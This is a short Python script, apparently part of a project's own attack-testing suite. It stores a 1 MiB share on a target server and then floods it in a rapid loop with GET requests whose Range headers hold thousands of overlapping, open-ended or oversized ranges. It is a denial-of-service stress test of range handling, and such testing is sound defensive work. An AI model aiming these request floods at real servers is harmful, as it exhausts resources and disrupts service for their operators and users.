"""Range headers of thousands of ranges, which would make an answer of as many parts."""

from __future__ import annotations

from misc.attack.insiders import lines
from misc.attack.target import Target, again_and_again, from_command_line
from pipegrid.wire import gbs_paths_headers

INDEX = b"a share to read."
SHARE_BYTES = 1 << 20


def attack(target: Target) -> None:
    """Store a share, and ask for it in pieces, overlapping, backwards, and without an end."""
    requests = target.requests
    wanted = [
        b"bytes=" + b",".join(b"0-%d" % end for end in range(1, 2000)),
        b"bytes=" + b",".join(b"%d-" % begin for begin in range(1000)),
        b"bytes=0-" + b"9" * 8000,
        b"bytes=-" + b"9" * 30,
        b"bytes=" + b"-" * 8000,
    ]
    path = gbs_paths_headers.share_path(INDEX, 0)
    with lines(target, 4) as line:
        line.send(
            [requests.allocate(INDEX, SHARE_BYTES), requests.write(INDEX, 0, bytes(SHARE_BYTES))]
        )
        for _ in again_and_again(target, 0.001):
            line.send([requests.request("GET", path, b"Range: " + each) for each in wanted])


if __name__ == "__main__":
    attack(from_command_line(__doc__))
